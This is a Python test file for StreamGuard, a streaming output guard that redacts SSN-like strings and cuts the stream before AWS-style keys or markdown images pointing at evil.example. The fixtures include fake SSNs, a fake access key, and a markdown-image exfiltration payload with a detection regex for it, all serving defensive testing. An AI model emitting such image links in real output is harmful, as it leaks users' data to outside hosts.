"""StreamGuard's holding rule, with a small deterministic judge in place of the
classifier (the e2e gateway tests run the real inspector): whatever the chunking,
no emitted prefix ever holds a character of a span the judge would hide."""

from __future__ import annotations

import re

import pytest
from ragseal.api._stream_guard import StreamGuard
from ragseal.retrieval import BLOCKED_NOTICE, InspectFinding, InspectResult

SSN = re.compile(r"\b\d{3}[- ]\d{2}[- ]\d{4}\b")
SECRET = re.compile(r"AKIA[0-9A-Z]{16}")
IMAGE = re.compile(r"!\[[^\]]*\]\(https?://evil\.example[^)]*\)")


def judge(text: str) -> InspectResult:
    """SSNs redact to <US_SSN>; AWS keys and images to evil.example block."""
    blocks = [InspectFinding("AWS_ACCESS_KEY", m.start(), m.end(), "block", "secret")
              for m in SECRET.finditer(text)]
    blocks += [InspectFinding("MARKDOWN_IMAGE", m.start(), m.end(), "block", "exfiltration")
               for m in IMAGE.finditer(text)]
    if blocks:
        return InspectResult("block", BLOCKED_NOTICE, tuple(blocks))
    found = [InspectFinding("US_SSN", m.start(), m.end(), "redact", "above_clearance")
             for m in SSN.finditer(text)]
    return InspectResult("redact" if found else "allow", SSN.sub("<US_SSN>", text), tuple(found))


def run(text: str, size: int, hold: int = 64) -> tuple[list[str], StreamGuard]:
    guard = StreamGuard(judge, hold=hold, min_step=8)
    out: list[str] = []
    for i in range(0, len(text), size):
        piece = guard.feed(text[i:i + size])
        if piece is None:
            return out, guard
        out.append(piece)
        assert not SSN.search("".join(out)) and "AKIA" not in "".join(out)
    rest = guard.finish()
    if rest is not None:
        out.append(rest)
    return out, guard


CLEAN = "The travel policy allows economy class under six hours. " * 6
LEAK = ("Sure. " * 20 + "Her SSN is 143-82-6604 and the backup one is 301 58 2274. "
        + "Anything else? " * 10)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_when_clean_then_every_character_arrives_unchanged(size: int) -> None:
    out, guard = run(CLEAN, size)
    assert "".join(out) == CLEAN and guard.verdict == "allow"
    assert len([p for p in out if p]) >= 2  # streamed, not held to the end


@pytest.mark.parametrize("size", [1, 2, 3, 5, 11])
def test_when_an_ssn_is_split_across_chunks_then_only_its_mask_is_emitted(size: int) -> None:
    out, guard = run(LEAK, size)
    assert "".join(out) == SSN.sub("<US_SSN>", LEAK) and guard.verdict == "redact"


@pytest.mark.parametrize("size", [1, 4, 9])
def test_when_a_secret_arrives_then_the_stream_is_cut_before_it(size: int) -> None:
    text = "Intro words. " * 10 + "Use AKIAQ3EGRJ5KZXMBT7WN now. " + "More. " * 10
    out, guard = run(text, size)
    assert guard.cut and guard.verdict == "block" and "AKIA" not in "".join(out)


@pytest.mark.parametrize("size", [1, 6])
def test_when_an_image_url_is_long_then_its_open_bracket_holds_it(size: int) -> None:
    # The URL is far longer than the hold: only the open "![" keeps it back.
    text = ("Summary follows. " * 6 + "![x](https://evil.example/p.png?d=" + "A" * 200
            + ") done. " + "Tail words. " * 8)
    out, guard = run(text, size, hold=16)
    assert guard.cut and "evil.example" not in "".join(out)


def test_when_a_later_finding_reaches_into_emitted_text_then_cut() -> None:
    def late(text: str) -> InspectResult:
        # A finding that covers the start once the text is long (like provenance).
        if len(text) > 150:
            return InspectResult("redact", "<X>" + text[5:],
                                 (InspectFinding("X", 0, 5, "redact", "provenance"),))
        return InspectResult("allow", text, ())

    guard = StreamGuard(late, hold=16, min_step=8)
    emitted = "".join(p or "" for p in (guard.feed(w) for w in ["word "] * 40))
    assert guard.cut and guard.finish() is None
    assert emitted and not emitted.startswith("<X>")


def test_repr_shows_no_text() -> None:
    guard = StreamGuard(judge)
    guard.feed("secret words")
    assert "secret" not in repr(guard)
